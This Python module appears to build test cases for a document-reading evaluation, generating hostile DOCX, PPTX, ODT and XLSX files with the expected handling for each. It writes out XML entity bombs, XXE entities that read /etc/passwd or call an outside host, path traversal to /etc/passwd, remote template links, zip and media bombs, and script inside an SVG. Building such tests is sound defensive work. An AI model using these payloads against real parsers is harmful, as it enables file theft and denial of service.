"""Word, PowerPoint and OpenDocument files that attack whoever reads their XML or follows their links."""

from __future__ import annotations

from collections.abc import Callable
from typing import Unpack

from eval.hostile.case import (
    ACCOUNTS,
    ANY,
    CANARY,
    EITHER,
    OUTSIDE,
    PHRASE,
    PICTURE,
    PROSE,
    READ,
    UNREAD,
    Case,
    Expected,
    Status,
)
from eval.hostile.making.compound import compound
from eval.hostile.making.office import (
    DOCUMENT_END,
    DOCUMENT_OPEN,
    OFFICE,
    docx,
    docx_parts,
    odt,
    paragraph,
    pptx,
    relations,
    types,
    xlsx,
)
from eval.hostile.making.zips import Part, pack, repeated

_BODY = DOCUMENT_OPEN[DOCUMENT_OPEN.index(b"<w:document") :]
_LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 11))
    + b"]>"
)
_QUADRATIC = b'<!DOCTYPE x [<!ENTITY a "' + b"ha" * 50_000 + b'">]>'
_FILE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_NETWORK = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{OUTSIDE}/xxe">]>'.encode()
_PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{OUTSIDE}/parameter.dtd"> %p;]>'.encode()
_DOCTYPES = {
    "billion-laughs": (_LAUGHS, b"&a10;"),
    "quadratic": (_QUADRATIC, b"&a;" * 5_000),
    "xxe-file": (_FILE, b"&a;"),
    "xxe-network": (_NETWORK, b"&a;"),
    "xxe-parameter": (_PARAMETER, b"x"),
}
_TEXT_OPEN = b"<text:p>"


def _with_type(doctype: bytes, reference: bytes) -> bytes:
    inside = paragraph(PROSE) + b"<w:p><w:r><w:t>" + reference + b"</w:t></w:r></w:p>"
    return docx(document=b'<?xml version="1.0"?>' + doctype + _BODY + inside + DOCUMENT_END)


def _late_type(doctype: bytes, reference: bytes) -> bytes:
    inside = paragraph(PROSE) + b"<w:p><w:r><w:t>" + reference + b"</w:t></w:r></w:p>"
    comment = b"<!--" + b" " * 200_000 + b"-->"
    return docx(document=b'<?xml version="1.0"?>' + comment + doctype + _BODY + inside + DOCUMENT_END)


def _utf16(doctype: bytes, reference: bytes) -> bytes:
    inside = paragraph(PROSE) + b"<w:p><w:r><w:t>" + reference + b"</w:t></w:r></w:p>"
    whole = b'<?xml version="1.0" encoding="UTF-16"?>' + doctype + _BODY + inside + DOCUMENT_END
    return docx(document=whole.decode().encode("utf-16"))


def _bomb(unit: bytes, times: int, head: bytes = DOCUMENT_OPEN, tail: bytes = DOCUMENT_END) -> bytes:
    parts = docx_parts()
    return pack([*parts[:2], repeated("word/document.xml", head, unit, times, tail)])


def _media_bomb() -> bytes:
    return pack([*docx_parts(), *(repeated(f"word/media/{at}.bmp", b"BM", b"\0" * 1_048_576, 400) for at in range(6))])


def _linked(kind: str, target: str) -> bytes:
    return docx(more={"word/_rels/document.xml.rels": relations(("x", f"{OFFICE}/{kind}", target), external=True)})


def _revised() -> bytes:
    """A sentence of which a word was put in and another taken out, with both kept as revisions."""
    mark = 'w:id="1" w:author="A" w:date="2024-01-01T00:00:00Z"'
    return docx(
        paragraph(PROSE)
        + b'<w:p><w:r><w:t xml:space="preserve">Waiting lists were </w:t></w:r>'
        + f"<w:ins {mark}><w:r><w:t>halved by the spring</w:t></w:r></w:ins>".encode()
        + f"<w:del {mark}><w:r><w:delText>{CANARY}</w:delText></w:r></w:del>".encode()
        + b'<w:r><w:t xml:space="preserve"> and stayed low.</w:t></w:r></w:p>'
    )


def _case(
    name: str, made: Callable[[], bytes], allowed: frozenset[Status], why: str, path: str = "", **more: Unpack[Expected]
) -> Case:
    return Case(
        name=name,
        group="office_xml",
        path=path or f"{name}.docx",
        made=made,
        allowed=allowed,
        why=why,
        **more,
    )


def _typed(name: str, shape: Callable[[bytes, bytes], bytes], label: str) -> Case:
    doctype, reference = _DOCTYPES[name]
    return _case(
        f"docx-{name}{label}",
        lambda: shape(doctype, reference),
        UNREAD,
        "Entities that grow without end, or that read the server's files or network.",
        never=(ACCOUNTS, "hahahahaha"),
    )


CASES = (
    *(_typed(name, _with_type, "") for name in _DOCTYPES),
    _typed("xxe-file", _late_type, "-late"),
    _typed("billion-laughs", _late_type, "-late"),
    _typed("xxe-file", _utf16, "-utf16"),
    _typed("billion-laughs", _utf16, "-utf16"),
    _case(
        "docx-doctype-in-styles",
        lambda: docx(more={"word/styles.xml": b'<?xml version="1.0"?>' + _LAUGHS + b"<a>&a10;</a>"}),
        UNREAD,
        "The attack stands in a part that is read by the way.",
    ),
    _case(
        "docx-deep-nesting",
        lambda: _bomb(b"<w:sdt><w:sdtContent>", 20_000, tail=b""),
        UNREAD,
        "40,000 elements inside one another.",
    ),
    _case(
        "docx-deep-tables",
        lambda: docx(b"<w:tbl><w:tr><w:tc>" * 60 + paragraph(PROSE) + b"<w:p/></w:tc></w:tr></w:tbl>" * 60),
        EITHER,
        "Tables 60 deep.",
    ),
    _case(
        "docx-9m-paragraphs",
        lambda: _bomb(b"<w:p/>" * 1000, 9_000),
        UNREAD,
        "9 million empty paragraphs in 100 kB: 3 GB in a reader that holds them all.",
        quick=False,
    ),
    _case(
        "docx-1m-short-paragraphs",
        lambda: _bomb(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 1000, 1_000),
        EITHER,
        "Just below the size at which it is refused.",
        quick=False,
    ),
    _case("docx-media-bomb", _media_bomb, UNREAD, "2.4 GB of pictures in 2 MB.", quick=False),
    _case(
        "docx-media-in-measure",
        lambda: pack([*docx_parts(), repeated("word/media/a.bmp", b"BM", b"\0" * 1_048_576, 100)]),
        EITHER,
        "A large picture that nobody needs to unpack for the words.",
        must=(PHRASE,),
    ),
    _case(
        "docx-duplicate-part",
        lambda: pack([*docx_parts(), Part(name="word/document.xml", content=_BODY + paragraph(CANARY) + DOCUMENT_END)]),
        UNREAD,
        "Two main parts of one name: readers disagree which one counts.",
        never=(CANARY,),
    ),
    _case(
        "docx-case-twin",
        lambda: pack([*docx_parts(), Part(name="Word/Document.xml", content=_BODY + paragraph(CANARY) + DOCUMENT_END)]),
        UNREAD,
        "The same, told apart by capitals only.",
        never=(CANARY,),
    ),
    _case(
        "docx-missing-main", lambda: pack(docx_parts()[:2]), UNREAD | {"not-evidence"}, "Its main part is not there."
    ),
    _case(
        "docx-no-relations",
        lambda: pack([docx_parts()[0], docx_parts()[2]]),
        EITHER,
        "Nothing says which part is the main one.",
    ),
    _case(
        "docx-wrong-types",
        lambda: pack(
            [Part(name="[Content_Types].xml", content=types({"/word/document.xml": "image/png"})), *docx_parts()[1:]]
        ),
        EITHER,
        "It says that its text is a picture.",
    ),
    _case("docx-empty-types", lambda: pack([Part(name="[Content_Types].xml"), *docx_parts()[1:]]), EITHER, "No types."),
    _case("docx-cut", lambda: docx(paragraph(PROSE) * 200)[:-200], UNREAD, "The end of the file is missing."),
    _case("docx-broken-xml", lambda: docx(b"<w:p><w:r><w:t>" + PROSE.encode()), EITHER, "XML that never closes."),
    _case(
        "docx-not-xml", lambda: docx(document=b"\x00\x01\x02" * 400), UNREAD, "No XML at all where the text should be."
    ),
    _case(
        "docx-bad-utf8", lambda: docx(paragraph(PROSE) + b"<w:p>\xff\xfe\xfa</w:p>"), EITHER, "Bytes that are no text."
    ),
    _case(
        "docx-part-loop",
        lambda: docx(
            more={
                "word/_rels/document.xml.rels": relations(
                    ("x", f"{OFFICE}/header", "document.xml"), ("y", f"{OFFICE}/footnotes", "document.xml")
                )
            }
        ),
        EITHER,
        "A part that is its own header and its own footnotes.",
    ),
    _case(
        "docx-outside-part",
        lambda: docx(
            more={"word/_rels/document.xml.rels": relations(("x", f"{OFFICE}/header", "../../../../etc/passwd"))}
        ),
        EITHER,
        "A part that lies outside the file.",
        never=(ACCOUNTS,),
    ),
    _case(
        "docx-external-template",
        lambda: _linked("attachedTemplate", f"{OUTSIDE}/template.dotm"),
        READ,
        "Opening it fetches a template, and tells where it was opened.",
        must=(PHRASE,),
        flags=("external-links",),
    ),
    _case(
        "docx-external-picture",
        lambda: _linked("image", f"{OUTSIDE}/picture.png"),
        READ,
        "Opening it fetches a picture.",
        must=(PHRASE,),
        flags=("external-links",),
    ),
    _case(
        "docx-external-frame",
        lambda: _linked("frame", "file://127.0.0.1/share/frame.htm"),
        READ,
        "Opening it reaches for a share.",
        must=(PHRASE,),
        flags=("external-links",),
    ),
    _case(
        "docx-macros",
        lambda: docx(more={"word/vbaProject.bin": compound({"VBA": b"x" * 5000})}),
        READ,
        "It carries macros.",
        must=(PHRASE,),
        flags=("macros",),
    ),
    _case(
        "docx-embedded",
        lambda: docx(more={"word/embeddings/oleObject1.bin": compound({"Package": b"x" * 5000})}),
        READ,
        "Another file inside it must be accounted for.",
        must=(PHRASE,),
        flags=("embedded",),
    ),
    _case(
        "docx-tracked-changes",
        _revised,
        READ,
        "What was put in must be read, and what was taken out must not.",
        must=("Waiting lists were halved by the spring and stayed low.",),
        never=(CANARY,),
    ),
    _case(
        "docx-locked",
        lambda: compound({"EncryptedPackage": b"\x10" * 6000, "EncryptionInfo": b"\x04\0\x04\0" + b"\0" * 300}),
        UNREAD,
        "Locked with a password, as Office does it.",
        flags=("encrypted",),
    ),
    _case("pptx-billion-laughs", lambda: _deck(_LAUGHS, b"&a10;"), UNREAD, "As in Word.", path="deck.pptx"),
    _case("pptx-xxe-file", lambda: _deck(_FILE, b"&a;"), UNREAD, "As in Word.", path="deck.pptx", never=(ACCOUNTS,)),
    _case(
        "pptx-external",
        lambda: pptx(
            [PROSE],
            more={
                "ppt/slides/_rels/slide2.xml.rels": relations(
                    ("x", f"{OFFICE}/image", f"{OUTSIDE}/p.png"), external=True
                )
            },
        ),
        READ,
        "It fetches a picture.",
        path="deck.pptx",
        must=(PHRASE,),
    ),
    _case("pptx-no-slides", lambda: pptx([]), ANY, "A deck of nothing.", path="deck.pptx"),
    _case(
        "odt-billion-laughs",
        lambda: odt(_TEXT_OPEN + b"&a10;</text:p>", head=_LAUGHS),
        UNREAD,
        "As in Word.",
        path="a.odt",
    ),
    _case(
        "odt-xxe-file",
        lambda: odt(_TEXT_OPEN + b"&a;</text:p>", head=_FILE),
        UNREAD,
        "As in Word.",
        path="a.odt",
        never=(ACCOUNTS,),
    ),
    _case(
        "odt-spaces-bomb",
        lambda: odt(_TEXT_OPEN + PROSE.encode() + b'<text:s text:c="2000000000"/></text:p>'),
        EITHER,
        "One element that stands for two billion spaces.",
        path="a.odt",
    ),
    _case(
        "odt-repeated-cells",
        lambda: odt(
            b'<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
            b'table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
            + _TEXT_OPEN
            + PROSE.encode()
            + b"</text:p>"
        ),
        EITHER,
        "One cell that stands for a quadrillion.",
        path="a.odt",
    ),
    _case(
        "odt-deep", lambda: odt(b"<text:section>" * 30_000), UNREAD, "30,000 sections inside one another.", path="a.odt"
    ),
    _case(
        "odt-outside",
        lambda: odt(
            _TEXT_OPEN
            + PROSE.encode()
            + b'<draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" '
            + f'xlink:href="{OUTSIDE}/odt.png"/></draw:frame>'.encode()
            + b"</text:p>"
        ),
        EITHER,
        "It links to a picture elsewhere.",
        path="a.odt",
    ),
    _case(
        "svg-in-docx",
        lambda: docx(
            more={"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}
        ),
        READ,
        "A drawing with a program in it.",
        must=(PHRASE,),
        never=("alert(1)",),
    ),
    _case(
        "xlsx-xxe-file",
        lambda: xlsx(("A", b"", "visible"), more={"xl/styles.xml": b'<?xml version="1.0"?>' + _FILE + b"<a>&a;</a>"}),
        UNREAD,
        "As in Word.",
        path="book.xlsx",
        never=(ACCOUNTS,),
    ),
    _case("docx-picture-only", lambda: docx(b"<w:p/>"), PICTURE, "No words at all."),
)


def _deck(doctype: bytes, reference: bytes) -> bytes:
    slide = (
        b'<?xml version="1.0"?>'
        + doctype
        + b'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree/><a:t>'
        + reference
        + b"</a:t></p:cSld></p:sld>"
    )
    return pptx([PROSE], more={"ppt/slides/slide1.xml": slide})
